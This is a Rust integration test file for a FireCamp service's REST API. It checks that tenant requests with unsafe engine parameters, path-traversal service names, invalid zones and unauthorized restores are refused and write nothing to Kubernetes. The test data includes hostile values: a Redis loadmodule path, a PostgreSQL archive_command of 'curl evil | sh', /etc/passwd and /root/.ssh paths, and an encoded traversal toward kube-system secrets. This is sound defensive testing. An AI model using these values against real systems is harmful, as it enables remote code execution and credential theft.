//! Issue #12, items 2 and 5 on the manage service's REST API: a tenant allowed to create
//! FireCampServices sends engine parameters that would run commands in the pods, values out of
//! range, or a reserved annotation. Each is refused with 400 naming the field, and nothing is
//! written to Kubernetes. The API server here is a fake (tests/common) that approves every
//! token and access review, serves one existing service, and records every request.

mod common;

use axum::http::{Method, StatusCode};
use firecamp_api::ApiError;
use serde_json::{Value, json};

async fn post(path: &str, body: Value) -> (StatusCode, ApiError, Vec<String>) {
    let (status, bytes, seen) = common::App::new().call(Method::POST, path, serde_json::to_vec(&body).unwrap()).await;
    let err = serde_json::from_slice(&bytes).unwrap_or_else(|e| panic!("not an ApiError ({e}): {}", String::from_utf8_lossy(&bytes)));
    (status, err, seen.iter().map(|s| s.to_string()).collect())
}

fn spec(engine: &str) -> Value {
    json!({ "engine": engine, "replicas": 3, "zones": ["us-east-1a", "us-east-1b", "us-east-1c"], "volumes": { "data": { "size": "10Gi" } } })
}

/// Nothing but reads and reviews reached Kubernetes.
fn nothing_written(seen: &[String]) {
    assert!(seen.iter().all(|r| r.starts_with("GET ") || r.ends_with("reviews")), "{seen:?}");
}

#[tokio::test]
async fn create_refuses_dangerous_parameters_out_of_range_values_and_reserved_annotations() {
    let cases = [
        ("redis", json!({ "config": { "loadmodule": "/tmp/evil.so" } }), "spec.config.loadmodule", "not an allowed Redis parameter"),
        ("redis", json!({ "memberConfig": { "svc-2": { "rename-command": "CONFIG x" } } }), "spec.memberConfig.svc-2.rename-command", "FireCamp sets"),
        ("redis", json!({ "config": { "maxmemory-samples": "1000" } }), "spec.config.maxmemory-samples", "an integer from 1 to 64"),
        (
            "postgresql",
            json!({ "config": { "archive_command": "sh -c 'curl evil | sh'" } }),
            "spec.config.archive_command",
            "not an allowed PostgreSQL parameter",
        ),
        ("postgresql", json!({ "config": { "include": "/etc/passwd" } }), "spec.config.include", "not an allowed"),
        ("postgresql", json!({ "config": { "log_statement": "everything" } }), "spec.config.log_statement", "one of `none`, `ddl`, `mod`, `all`"),
        ("zookeeper", json!({ "config": { "authProvider.1": "org.evil.Provider" } }), "spec.config.authProvider.1", "not an allowed ZooKeeper parameter"),
        (
            "redis",
            json!({ "annotations": { "storageclass.kubernetes.io/is-default-class": "true" } }),
            "spec.annotations[\"storageclass.kubernetes.io/is-default-class\"]",
            "reserved",
        ),
        ("redis", json!({ "labels": { "firecamp.dev/service": "other" } }), "spec.labels[\"firecamp.dev/service\"]", "reserved"),
    ];
    for (engine, extra, field, want) in cases {
        let mut s = spec(engine);
        s.as_object_mut().unwrap().extend(extra.as_object().unwrap().clone());
        let (status, e, seen) = post("/v1/services", json!({ "name": "svc", "spec": s })).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{field}: {e:?}");
        assert!(e.fields.iter().any(|f| f.field == field && f.message.contains(want)), "{field}: {e:?}");
        nothing_written(&seen);
    }
}

#[tokio::test]
async fn config_operations_refuse_dangerous_parameters_before_anything_is_recorded() {
    for (config, field) in [
        (json!({ "config": { "loadmodule": "/tmp/evil.so" } }), "spec.config.loadmodule"),
        (json!({ "config": { "dir": "/root/.ssh" } }), "spec.config.dir"),
        (json!({ "config": { "appendfsync": "never" } }), "spec.config.appendfsync"),
        (json!({ "memberConfig": { "rd-1": { "enable-debug-command": "yes" } } }), "spec.memberConfig.rd-1.enable-debug-command"),
    ] {
        let mut body = json!({ "kind": "config" });
        body.as_object_mut().unwrap().extend(config.as_object().unwrap().clone());
        let (status, e, seen) = post("/v1/services/rd/operations", body).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{field}: {e:?}");
        assert!(e.fields.iter().any(|f| f.field == field), "{field}: {e:?}");
        assert!(seen.iter().any(|r| r.ends_with("/firecampservices/rd")), "the service was read: {seen:?}");
        nothing_written(&seen);
    }
}

/// Issue #16: a scale the engine cannot make — a ZooKeeper ensemble of an even size — is
/// refused naming `replicas` and the reason, with nothing written.
#[tokio::test]
async fn a_scale_the_engine_cannot_make_is_refused_before_anything_is_recorded() {
    let (status, e, seen) = post("/v1/services/zk/operations", json!({ "kind": "scale", "replicas": 4 })).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{e:?}");
    assert!(e.fields.iter().any(|f| f.field.ends_with("replicas") && f.message.contains("odd number")), "{e:?}");
    assert!(seen.iter().any(|r| r.ends_with("/firecampservices/zk")), "the service was read: {seen:?}");
    nothing_written(&seen);
}

/// Found by rest_fuzz.rs: kube-rs puts a name into the API path as it is, so a service name of
/// `../../../../../api/v1/namespaces/kube-system/secrets/x` (sent as `..%2F..%2F…`) made the
/// manage service read, patch and delete outside the FireCampService collection with its own
/// rights. A name from a path that is not a DNS label is now refused with 400 naming `name`,
/// before anything reaches Kubernetes.
#[tokio::test]
async fn a_service_name_that_is_not_a_dns_label_never_reaches_kubernetes() {
    let app = common::App::new();
    let walk = "..%2F..%2F..%2F..%2F..%2Fapi%2Fv1%2Fnamespaces%2Fkube-system%2Fsecrets%2Fx";
    for (method, suffix, body) in [
        (Method::GET, "", ""),
        (Method::DELETE, "?deleteVolumes=true", ""),
        (Method::GET, "/members", ""),
        (Method::POST, "/stop", ""),
        (Method::POST, "/start", ""),
        (Method::GET, "/operations", ""),
        (Method::POST, "/operations", r#"{"kind":"restart"}"#),
        (Method::GET, "/operations/op-1", ""),
        (Method::POST, "/operations/op-1/cancel", ""),
        (Method::GET, "/logs", ""),
        (Method::GET, "/backups", ""),
        (Method::DELETE, "/backups/rd-20261203T000000000Z", ""),
        (Method::POST, "/restore", r#"{"backup":"latest","name":"rd2"}"#),
    ] {
        for name in [walk, "rd%2F..%2F..%2Fother", "RD", "rd.x"] {
            let uri = format!("/v1/services/{name}{suffix}");
            let (status, bytes, seen) = app.call(method.clone(), &uri, body.as_bytes().to_vec()).await;
            let e: ApiError = serde_json::from_slice(&bytes).unwrap_or_else(|e| panic!("{uri}: not an ApiError ({e})"));
            assert_eq!(status, StatusCode::BAD_REQUEST, "{method} {uri}: {e:?}");
            assert_eq!(e.fields.iter().map(|f| f.field.as_str()).collect::<Vec<_>>(), ["name"], "{method} {uri}: {e:?}");
            assert!(seen.is_empty(), "{method} {uri}: {seen:?}");
        }
    }
}

/// #19: a manage service told the cluster's zones (`install render --zones`) refuses a service
/// placed in another, naming the field and the zones it may use; nothing is written.
#[tokio::test]
async fn create_refuses_a_zone_outside_the_clusters() {
    let cluster = firecamp_core::ClusterConfig {
        zones: vec!["us-east-1a".into(), "us-east-1b".into(), "us-east-1c".into()],
        ..firecamp_core::ClusterConfig::new("test")
    };
    let app = common::App::with_cluster(cluster);
    let mut s = spec("postgresql");
    s["zones"] = json!(["us-east-1a", "us-east-1d"]);
    let (status, bytes, seen) = app.call(Method::POST, "/v1/services", serde_json::to_vec(&json!({ "name": "pg", "spec": s })).unwrap()).await;
    let e: ApiError = serde_json::from_slice(&bytes).unwrap();
    assert_eq!(status, StatusCode::BAD_REQUEST, "{e:?}");
    assert!(
        e.fields
            .iter()
            .any(|f| f.field == "spec.zones[1]" && f.message.contains("is not a zone of cluster test: its zones are us-east-1a, us-east-1b, us-east-1c")),
        "{e:?}"
    );
    nothing_written(&seen.iter().map(|s| s.to_string()).collect::<Vec<_>>());
    let (status, _, _) = app.call(Method::POST, "/v1/services", serde_json::to_vec(&json!({ "name": "pg", "spec": spec("postgresql") })).unwrap()).await;
    assert!(status.is_success(), "the cluster's own zones are accepted: {status}");
}

/// #13: a member certificate issuer needs cert-manager: a manage service that found no
/// cert-manager.io/v1 API refuses it, naming the field; with one, it is accepted. A malformed
/// issuer name is refused either way.
#[tokio::test]
async fn create_refuses_a_cert_manager_issuer_where_there_is_no_cert_manager() {
    let with_issuer = |name: &str| {
        let mut s = spec("postgresql");
        s["tls"] = json!({"issuer": {"kind": "Issuer", "name": name}});
        serde_json::to_vec(&json!({ "name": "pg", "spec": s })).unwrap()
    };
    let refused = |bytes: &[u8], field: &str, says: &str| {
        let e: ApiError = serde_json::from_slice(bytes).unwrap();
        assert!(e.fields.iter().any(|f| f.field == field && f.message.contains(says)), "{e:?}");
    };
    let app = common::App::with_cluster(firecamp_core::ClusterConfig::new("test"));
    let (status, bytes, seen) = app.call(Method::POST, "/v1/services", with_issuer("ca")).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    refused(&bytes, "spec.tls.issuer", "cert-manager does not issue certificates here");
    nothing_written(&seen.iter().map(|s| s.to_string()).collect::<Vec<_>>());

    let app = common::App::with_cluster(firecamp_core::ClusterConfig { cert_manager: true, ..firecamp_core::ClusterConfig::new("test") });
    let (status, bytes, seen) = app.call(Method::POST, "/v1/services", with_issuer("Bad_Name")).await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    refused(&bytes, "spec.tls.issuer.name", "");
    nothing_written(&seen.iter().map(|s| s.to_string()).collect::<Vec<_>>());
    let (status, _, _) = app.call(Method::POST, "/v1/services", with_issuer("ca")).await;
    assert!(status.is_success(), "an issuer is accepted where cert-manager runs: {status}");
}

/// #15: on Kubernetes without a backup bucket the backup paths answer 501 saying so, after the
/// caller is authenticated and authorized like any other, and write nothing.
#[tokio::test]
async fn backup_paths_answer_501_after_authorizing_and_write_nothing() {
    let app = common::App::new();
    for (method, suffix, body) in [
        (Method::GET, "/backups", ""),
        (Method::DELETE, "/backups/rd-20261203T000000000Z", ""),
        (Method::POST, "/restore", r#"{"backup":"latest","name":"rd2"}"#),
    ] {
        let (status, bytes, seen) = app.call(method.clone(), &format!("/v1/services/rd{suffix}"), body.as_bytes().to_vec()).await;
        let e: ApiError = serde_json::from_slice(&bytes).unwrap();
        assert_eq!(status, StatusCode::NOT_IMPLEMENTED, "{method} {suffix}: {e:?}");
        assert!(e.message.contains("--backup-target"), "{e:?}");
        let seen: Vec<String> = seen.iter().map(|s| s.to_string()).collect();
        assert!(seen.iter().any(|r| r.ends_with("subjectaccessreviews")), "authorized first: {seen:?}");
        nothing_written(&seen);
    }
}

/// #15: a restore makes a copy of the source's data, so its caller must be allowed to read the
/// source, not only to create services: a tenant who may not `get` service `private` cannot
/// restore it, and nothing is written.
#[tokio::test]
async fn a_restore_needs_the_right_to_read_its_source() {
    let app = common::App::new();
    let (status, bytes, seen) = app.call(Method::POST, "/v1/services/private/restore", br#"{"backup":"latest","name":"copy"}"#.to_vec()).await;
    let e: ApiError = serde_json::from_slice(&bytes).unwrap();
    assert_eq!(status, StatusCode::FORBIDDEN, "{e:?}");
    let seen: Vec<String> = seen.iter().map(|s| s.to_string()).collect();
    assert_eq!(seen.iter().filter(|r| r.ends_with("subjectaccessreviews")).count(), 2, "create, then get on the source: {seen:?}");
    nothing_written(&seen);
}
